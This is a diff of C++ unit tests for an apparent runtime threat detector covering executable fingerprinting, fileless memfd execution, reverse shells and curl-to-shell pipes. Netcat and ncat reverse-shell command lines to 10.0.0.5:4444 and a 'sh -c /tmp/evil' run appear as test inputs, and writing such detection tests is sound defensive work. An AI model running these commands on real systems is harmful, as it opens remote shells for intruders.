@@ -69,7 +69,7 @@ struct Run {
     ExecutableHasher hasher(proc);
     ProcessInspector inspector(proc, hasher);
     std::optional<ExecutionFacts> facts;
-    if (inspect && ProcessInspector::wants(ev, p)) facts = inspector.inspect(p.pid, p.ppid);
+    if (inspect && ProcessInspector::wants(ev, p)) facts = inspector.inspect(p.pid, p.ppid, p.exe);
     EventContext ctx{ev, p, host ? nullptr : &container};
     ctx.execution = facts ? &*facts : nullptr;
     d.evaluate(ctx, out);
@@ -130,6 +130,20 @@ BOOST_AUTO_TEST_CASE(fingerprint_matches_the_hash_of_the_executed_file) {
   // Another file: nothing.
   r.proc.process(kPid, "/bin/ls", "LS-BYTES");
   BOOST_TEST(r.exec("/bin/ls", {"ls"}).empty());
+}
+
+BOOST_AUTO_TEST_CASE(a_process_that_executed_another_program_since_is_not_judged_by_it) {
+  // `sh -c "... && /tmp/evil"`: busybox sh executes its last command in
+  // place, so when the shell's execve is read /proc/<pid>/exe is already
+  // the next program, a memfd here.
+  Run r;
+  r.proc.process(kPid, "/memfd:payload (deleted)", "EVIL-BYTES");
+  r.db = std::make_shared<SignatureDb>(SignatureDb::parse(sha256_hex("EVIL-BYTES") + " Evil\n").db);
+  BOOST_TEST(r.exec("/bin/busybox", {"sh", "-c", "/tmp/evil"}, "sh").empty());
+  BOOST_TEST(subtypes(r.exec("/memfd:payload (deleted)", {"x"})) == (std::vector<std::string>{"fingerprint", "fileless"}));
+  // Its own executable deleted since: still itself.
+  r.proc.process(kPid, "/tmp/evil (deleted)", "EVIL-BYTES");
+  BOOST_TEST(subtypes(r.exec("/tmp/evil", {"evil"})) == (std::vector<std::string>{"fingerprint", "fileless"}));
 }
 
 BOOST_AUTO_TEST_CASE(host_and_runtime_processes_raise_nothing) {
@@ -211,6 +225,9 @@ BOOST_AUTO_TEST_CASE(reverse_shell_command_lines) {
              std::vector<std::string>{"reverse_shell"});
   BOOST_TEST(subtypes(r.exec("/bin/busybox", {"nc", "10.0.0.5", "4444", "-e", "sh"}, "nc")) ==
              std::vector<std::string>{"reverse_shell"});
+  BOOST_TEST(subtypes(r.exec("/bin/busybox", {"busybox", "nc", "10.0.0.5", "4444", "-e", "sh"}, "busybox")) ==
+             std::vector<std::string>{"reverse_shell"});
+  BOOST_TEST(r.exec("/bin/busybox", {"busybox", "nc", "-l", "-p", "4444"}, "busybox").empty());
   BOOST_TEST(subtypes(r.exec("/usr/bin/ncat", {"ncat", "--sh-exec", "sh", "10.0.0.5", "4444"})) ==
              std::vector<std::string>{"reverse_shell"});
   BOOST_TEST(subtypes(r.exec("/usr/bin/nc", {"nc", "-nve", "/bin/bash", "10.0.0.5", "4444"})) ==
@@ -298,8 +315,9 @@ BOOST_AUTO_TEST_CASE(download_and_execute_between_siblings_sharing_a_pipe) {
   BOOST_TEST(has(a[0].evidence_json, "\"peer\":{\"pid\":4243"));
 
   // The other way round: curl's exec seen after the shell's.
+  r.proc.process(kPid, "/usr/bin/curl", "c");  // now pid 4242 is curl writing into the pipe a sh reads
   r.proc.fd(kPid, 0, "/dev/null");
-  r.proc.fd(kPid, 1, "pipe:[900]");  // now pid 4242 is curl writing into the pipe a sh reads
+  r.proc.fd(kPid, 1, "pipe:[900]");
   r.proc.fd(4243, 0, "pipe:[900]");
   r.proc.fd(4243, 1, "/dev/null");
   r.proc.files["/proc/4243/comm"] = "sh\n";
@@ -308,6 +326,7 @@ BOOST_AUTO_TEST_CASE(download_and_execute_between_siblings_sharing_a_pipe) {
              std::vector<std::string>{"download_execute"});
 
   // A shell reading a pipe that cat writes: nothing.
+  r.proc.process(kPid, "/bin/sh", "s");
   r.proc.fd(kPid, 0, "pipe:[900]");
   r.proc.fd(kPid, 1, "/dev/null");
   r.proc.fd(4243, 0, "/dev/null");
